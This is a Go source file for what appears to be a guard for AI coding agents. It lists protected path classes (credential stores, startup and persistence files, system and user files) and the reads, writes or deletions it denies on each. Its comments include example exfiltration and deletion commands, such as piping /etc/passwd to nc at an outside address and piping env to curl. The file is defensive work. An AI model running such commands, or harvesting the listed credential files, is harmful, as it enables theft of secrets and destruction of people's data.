package effects

import "github.com/guardrail-go/guardrail/middleware"

// Class is a set of paths the policy protects and the ops it denies on
// them: one data row. Teaching the guard a new kind of protected file is
// adding a row, here or in the policy file.
//
// Globs are gitignore-like, and the last one that matches a path decides:
//
//   - a pattern starting with "/" is an absolute path and one starting with
//     "~/" is under the home directory; any other pattern is relative and
//     matches at every directory boundary (".env" matches ".env",
//     "app/.env" and "/srv/app/.env");
//   - "*" matches within one path segment, "**" across segments, and a
//     pattern ending in "/**" also matches the directory itself;
//   - a pattern starting with "!" takes matching paths back out of the
//     class (".env.*" then "!.env.example").
type Class struct {
	// Name is the class's id, used in finding ids (effect.read.credential)
	// and in Effect.Class.
	Name string `yaml:"name"`
	// Globs are the paths of the class, in order; "!" excludes.
	Globs []string `yaml:"globs"`
	// Deny lists the ops the class forbids (read, write, delete). A persist
	// effect on a path counts as a write.
	Deny []middleware.EffectOp `yaml:"deny"`
	// Risk grades a denied effect on the class.
	Risk middleware.Risk `yaml:"risk"`
	// Persist marks a class whose files make something run later: a write
	// to one is persistence.
	Persist bool `yaml:"persist"`
	// What names the kind of file for people ("a credential file"); a
	// finding's reason says what was stopped with it, never the path.
	What string `yaml:"what"`
	// AnyFile marks a class that holds files of every kind and name (a
	// person's documents): a find below it with a name filter
	// (find ~ -name '*.md' -delete) reaches them whatever the name, where
	// a class of named files (keys, start-up files) is reached only by
	// its names.
	AnyFile bool `yaml:"any_file"`
	// Disabled, in a policy file, removes the built-in class of that name.
	Disabled bool `yaml:"disabled"`
}

// Ops the default classes deny.
var (
	denyReadWriteDelete = []middleware.EffectOp{middleware.EffectRead, middleware.EffectWrite, middleware.EffectDelete}
	denyWriteDelete     = []middleware.EffectOp{middleware.EffectWrite, middleware.EffectDelete}
	denyWrite           = []middleware.EffectOp{middleware.EffectWrite}
)

// DefaultClasses returns the built-in classes, a fresh copy the caller may
// change. Order matters only for ties: when a path falls in several classes
// with findings of the same risk, the first class names the effect.
func DefaultClasses() []Class {
	return []Class{
		{
			// The whole of the machine or of a person's files: the root,
			// a top-level directory, the home directory. Deleting one is
			// the end of the machine or of the person's work, whichever
			// wrapper, interpreter or computed name asks for it.
			Name: "everything", What: "the root, a top-level directory or the home directory",
			Globs: []string{
				"/", "~", "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib32", "/lib64", "/opt", "/proc",
				"/root", "/sbin", "/srv", "/sys", "/usr", "/var", "/Users", "/System", "/Library", "/Applications",
			},
			Deny: []middleware.EffectOp{middleware.EffectDelete}, Risk: middleware.RiskCritical,
		},
		{
			// Whole disks and partitions: writing one raw (dd of=, mkfs,
			// wipefs, a partition table) destroys the filesystem on it.
			// Terminals, /dev/null and the like are not in the class.
			Name: "device", What: "a disk device",
			Globs: []string{
				"/dev/sd*", "/dev/hd*", "/dev/vd*", "/dev/xvd*", "/dev/nvme*", "/dev/mmcblk*", "/dev/md*", "/dev/dm-*",
				"/dev/mapper/*", "/dev/disk*", "/dev/rdisk*", "/dev/disk/**", "/dev/loop*", "/dev/zd*", "/dev/sr*",
			},
			Deny: denyWriteDelete, Risk: middleware.RiskHigh,
		},
		{
			Name: "ssh-trust", What: "the SSH authorized keys", Persist: true,
			Globs: []string{"~/.ssh/authorized_keys", "~/.ssh/authorized_keys2"},
			Deny:  denyWrite, Risk: middleware.RiskCritical,
		},
		{
			Name: "credential", What: "a credential file",
			Globs: []string{
				".env", ".env.*", "!.env.example", "!.env.sample", "!.env.template",
				// Private keys carry no extension; "id_*.*" leaves out the
				// public halves and ordinary source files (id_utils.go).
				"id_*", "!id_*.*", "id_rsa", "id_ed25519", "id_ecdsa", "id_dsa",
				"~/.ssh/**", "!~/.ssh/*.pub", "!~/.ssh/known_hosts", "!~/.ssh/known_hosts.old", "!~/.ssh/config",
				"*.pem", "*.key",
				"~/.aws/**", "~/.kube/config", "~/.netrc", ".pgpass",
				"~/.docker/config.json", "~/.config/gcloud/**", "~/.azure/**",
				".npmrc", ".pypirc", "~/.git-credentials",
				// Key rings, password stores and CLI tokens.
				"~/.gnupg/**", "~/.password-store/**", "~/.local/share/keyrings/**", "~/.config/gh/hosts.yml",
				"~/.vault-token", "~/.terraform.d/credentials.tfrc.json", "~/.cargo/credentials", "~/.cargo/credentials.toml",
				"~/.gem/credentials", "~/.config/hub",
				// build tools' and clients' files that hold repository
				// passwords and tokens in the clear (Maven's servers,
				// Gradle's user properties, Composer, MySQL, s3cmd, boto,
				// rclone, ngrok, Kaggle, Hugging Face, Fly, Bundler)
				"~/.m2/settings.xml", "~/.m2/settings-security.xml", "~/.gradle/gradle.properties",
				"~/.composer/auth.json", "~/.config/composer/auth.json", "~/.my.cnf", "~/.mylogin.cnf",
				"~/.s3cfg", "~/.boto", "~/.config/rclone/rclone.conf", "~/.config/ngrok/ngrok.yml",
				"~/.kaggle/kaggle.json", "~/.huggingface/token", "~/.cache/huggingface/token", "~/.fly/config.yml",
				"~/.bundle/config", "~/.dockercfg",
				// a project's secrets by their conventional names (Rails'
				// config/secrets.yml, a Google client's or service account's
				// credentials.json)
				"secrets.yml", "secrets.yaml", "secrets.json", "credentials.json",
				// the macOS keychains, other CLIs' tokens, and browsers'
				// saved passwords and cookies (sessions)
				"~/Library/Keychains/**", "~/.config/op/**", "~/.config/doctl/config.yaml",
				"~/.config/google-chrome/**/Cookies", "~/.config/google-chrome/**/Login Data",
				"~/.config/chromium/**/Cookies", "~/.config/chromium/**/Login Data",
				"~/Library/Application Support/Google/Chrome/**/Cookies", "~/Library/Application Support/Google/Chrome/**/Login Data",
				"~/.mozilla/firefox/**/logins.json", "~/.mozilla/firefox/**/key4.db", "~/.mozilla/firefox/**/cookies.sqlite",
				"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/sudoers.d/**",
				// Windows: the registry hives holding password hashes and
				// the secrets of services (spelled as the shell spells
				// C:\Windows\System32\config\SAM), the domain controller's
				// database, a user's credential files and DPAPI master keys,
				// browsers' saved passwords and cookies under AppData
				"/System/system32/config/sam", "/System/system32/config/security", "/System/system32/config/system",
				"/System/ntds/ntds.dit", "ntds.dit", "NTDS.dit",
				"~/AppData/Roaming/Microsoft/Credentials/**", "~/AppData/Local/Microsoft/Credentials/**",
				"~/AppData/Roaming/Microsoft/Protect/**", "~/AppData/Local/Microsoft/Vault/**",
				"~/AppData/Local/Google/Chrome/User Data/**/Login Data", "~/AppData/Local/Google/Chrome/User Data/**/Cookies",
				"~/AppData/Local/Microsoft/Edge/User Data/**/Login Data", "~/AppData/Local/Microsoft/Edge/User Data/**/Cookies",
				"~/AppData/Roaming/Mozilla/Firefox/Profiles/**/logins.json", "~/AppData/Roaming/Mozilla/Firefox/Profiles/**/key4.db",
				// A process's memory holds whatever it has decrypted (its
				// environment is the environment class: env prints it).
				"/proc/*/mem",
				// the secrets Docker and Kubernetes mount into a container
				"/run/secrets/**", "/var/run/secrets/**",
			},
			Deny: denyReadWriteDelete, Risk: middleware.RiskHigh,
		},
		{
			// The system's accounts and groups: read every day (getent,
			// id, a container's entrypoint), so alone only logged; sent to
			// the network they are a survey of the machine for whoever
			// receives it ("cat /etc/passwd | nc 198.51.100.7 4444").
			Name: "accounts", What: "the system's list of accounts or groups",
			Globs: []string{"/etc/passwd", "/etc/group", "/etc/master.passwd"},
			Deny:  []middleware.EffectOp{middleware.EffectRead}, Risk: middleware.RiskLow,
		},
		{
			// The environment and shell histories hold tokens and
			// passwords typed or exported, but reading them is everyday
			// work (env | grep NODE, history | tail): only logged alone,
			// and private data for exfiltration (env | curl -d @- …).
			Name: "environment", What: "the environment or a shell history",
			Globs: []string{
				"/proc/*/environ", "/proc/*/task/*/environ", "~/.bash_history", "~/.zsh_history", "~/.zhistory", "~/.history",
				"~/.python_history", "~/.node_repl_history", "~/.psql_history", "~/.mysql_history",
				"~/.local/share/fish/fish_history",
			},
			Deny: []middleware.EffectOp{middleware.EffectRead}, Risk: middleware.RiskLow,
		},
		{
			// What a CLI prints from the secrets it keeps (gh auth token,
			// gcloud auth print-access-token, security find-generic-password
			// -w): the shell effects name it secret:TOOL. Printing one is
			// documented daily work, so alone it is only logged; sent to
			// the network it is exfiltration.
			Name: "printed-secret", What: "a secret a command prints (a CLI's token, a keychain password)",
			Globs: []string{"secret:*"},
			Deny:  []middleware.EffectOp{middleware.EffectRead}, Risk: middleware.RiskLow,
		},
		{
			Name: "startup", What: "a startup file", Persist: true,
			Globs: []string{
				"~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.profile", "~/.zshrc", "~/.zprofile", "~/.zshenv",
				"~/.config/fish/config.fish", "~/.config/autostart/**", "/etc/profile", "/etc/profile.d/**",
				"/etc/bash.bashrc", "/etc/crontab", "/var/spool/cron/**", "/etc/cron*/**",
				"/etc/systemd/**", "~/.config/systemd/**", "~/Library/LaunchAgents/**",
				"/Library/LaunchAgents/**", "/Library/LaunchDaemons/**", "/Library/StartupItems/**",
				// macOS login hooks and login items (the preferences of
				// loginwindow, wherever defaults keeps them: ~, /Library,
				// root's home)
				"Library/Preferences/com.apple.loginwindow.plist", "~/Library/Preferences/com.apple.loginitems.plist",
				"~/Library/Application Support/com.apple.backgroundtaskmanagementagent/**",
				// Sourced by the startup files above as installed: Debian's
				// and Ubuntu's ~/.bashrc reads ~/.bash_aliases, oh-my-zsh
				// its custom directory, fish autoloads its functions.
				"~/.bash_aliases", "~/.oh-my-zsh/custom/**", "~/.config/fish/functions/**",
				// Read at every login or session start.
				"~/.bash_logout", "~/.zlogin", "~/.zlogout", "~/.xprofile", "~/.xinitrc", "~/.xsessionrc",
				"~/.config/fish/conf.d/**", "~/.config/environment.d/**", "~/.pam_environment", "/etc/environment",
				"/etc/rc.local", "/etc/init.d/**", "/etc/xdg/autostart/**", "/etc/update-motd.d/**",
				// Run by every Python or IPython start.
				"~/.ipython/profile_*/startup/**", "**/site-packages/usercustomize.py",
				"**/site-packages/sitecustomize.py", "**/site-packages/*.pth",
			},
			Deny: denyWriteDelete, Risk: middleware.RiskHigh,
		},
		{
			// A repository's history: deleting .git loses every commit not
			// pushed and every stash. Clearing a template's history is done
			// on purpose too, so a person decides.
			Name: "git-history", What: "a repository's history",
			Globs: []string{".git", ".git/objects/**", ".git/refs/**"},
			Deny:  []middleware.EffectOp{middleware.EffectDelete}, Risk: middleware.RiskModerate,
		},
		{
			// A person's own files: the folders a desktop makes for
			// documents, pictures and music, and the synced drives.
			// Deleting one, or anything in it, loses what no repository
			// holds and no package manager brings back.
			Name: "user-files", What: "a person's documents, pictures or other own files",
			Globs: []string{
				"~/Documents", "~/Documents/**", "~/Desktop", "~/Desktop/**", "~/Pictures", "~/Pictures/**",
				"~/Music", "~/Music/**", "~/Videos", "~/Videos/**", "~/Movies", "~/Movies/**", "~/Public", "~/Public/**",
				"~/Downloads", "~/Dropbox", "~/Dropbox/**", "~/OneDrive", "~/OneDrive/**", "~/Google Drive", "~/Google Drive/**",
				"~/Library/Mobile Documents", "~/Library/Mobile Documents/**", "~/Library/CloudStorage", "~/Library/CloudStorage/**",
			},
			Deny: []middleware.EffectOp{middleware.EffectDelete}, Risk: middleware.RiskHigh, AnyFile: true,
		},
		{
			// A folder right in the home directory (~/projects, ~/work,
			// ~/src) is often everything a person keeps, and no class
			// names it; deleting one, by whatever program or one-liner,
			// is a person's decision, as rm -rf ~/projects is
			// (fs.rm-home-folder). Dot folders (caches, tools' state) are
			// not in it.
			Name: "home-folder", What: "a folder or file right in the home directory",
			Globs: []string{"~/*", "!~/.*"},
			Deny:  []middleware.EffectOp{middleware.EffectDelete}, Risk: middleware.RiskModerate, AnyFile: true,
		},
		{
			Name: "git-hooks", What: "a git hook or git config", Persist: true,
			Globs: []string{".git/hooks/**", ".git/config"},
			Deny:  denyWrite, Risk: middleware.RiskHigh,
		},
		{
			// Configuration that runs commands or decides where code comes
			// from: an SSH ProxyCommand, git's hooksPath and aliases, a
			// program first on the PATH, a package index. People change
			// these on purpose, so a person decides.
			Name: "tool-config", What: "a configuration that runs commands or chooses where code comes from", Persist: true,
			Globs: []string{
				"~/.ssh/config", "~/.ssh/config.d/**", "~/.gitconfig", "~/.config/git/config", "/etc/gitconfig",
				"~/.local/bin/**", "~/bin/**", "~/.pip/pip.conf", "~/.config/pip/pip.conf", "/etc/pip.conf",
				"~/.cargo/config", "~/.cargo/config.toml", "~/.yarnrc", "~/.yarnrc.yml",
				// Editors and debuggers run commands their start-up files name.
				"~/.vimrc", "~/.config/nvim/init.vim", "~/.config/nvim/init.lua", "~/.gdbinit",
			},
			Deny: denyWriteDelete, Risk: middleware.RiskModerate,
		},
		{
			// A project's files that run commands by themselves: VS Code
			// tasks (runOn: folderOpen), git hooks kept in the tree
			// (husky, .githooks, pre-commit), direnv's .envrc (run on
			// entering the directory), a dev container's lifecycle
			// commands. Editing them is also everyday work, so a person
			// decides.
			Name: "project-autorun", What: "a project file that runs commands by itself", Persist: true,
			Globs: []string{
				".vscode/tasks.json", ".husky/**", ".githooks/**", ".pre-commit-config.yaml",
				".envrc", ".devcontainer/**", "**/.vscode/tasks.json", "**/.envrc",
			},
			Deny: denyWriteDelete, Risk: middleware.RiskModerate,
		},
		{
			// CLAUDE.md is ordinary project documentation, not settings.
			Name: "agent-settings", What: "the agent's own settings", Persist: true,
			Globs: []string{".claude/**", "~/.claude/**", "~/.claude.json", ".mcp.json"},
			Deny:  denyWriteDelete, Risk: middleware.RiskHigh,
		},
		{
			// What the system trusts: accounts, logins, the loader, the
			// programs every user runs. Replacing one is taking the machine.
			Name: "system-trust", What: "a file the system trusts (accounts, logins, system programs)",
			Globs: []string{
				"/etc/passwd", "/etc/group", "/etc/pam.d/**", "/etc/security/**", "/etc/ssh/sshd_config",
				"/etc/ssh/sshd_config.d/**", "/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/ld.so.conf.d/**",
				"/bin/**", "/sbin/**", "/usr/bin/**", "/usr/sbin/**", "/lib*/**", "/usr/lib*/**", "/boot/**", "/System/**",
				// macOS's privacy grants (TCC): a row written there gives
				// an app the camera, the disk or the screen unasked
				"~/Library/Application Support/com.apple.TCC/TCC.db", "/Library/Application Support/com.apple.TCC/TCC.db",
			},
			Deny: denyWriteDelete, Risk: middleware.RiskHigh,
		},
		{
			// The rest of the system's configuration and software: an
			// administrator changes it on purpose (a package source, a
			// program in /usr/local/bin), so it is moderate — reported, and
			// a person's decision once asking exists — not denied.
			Name: "system", What: "a system path",
			Globs: []string{"/etc/**", "/usr/**", "/opt/**", "/var/lib/**",
				// the web root itself (a site's workspace may lie under
				// it, so only the root), backups, mail, the boot files,
				// macOS's own
				"/var/www", "/var/www/html", "/var/opt/**", "/var/backups/**", "/var/mail/**", "/boot/**",
				"/Library/**", "/System/**"},
			Deny: denyWriteDelete, Risk: middleware.RiskModerate,
		},
	}
}
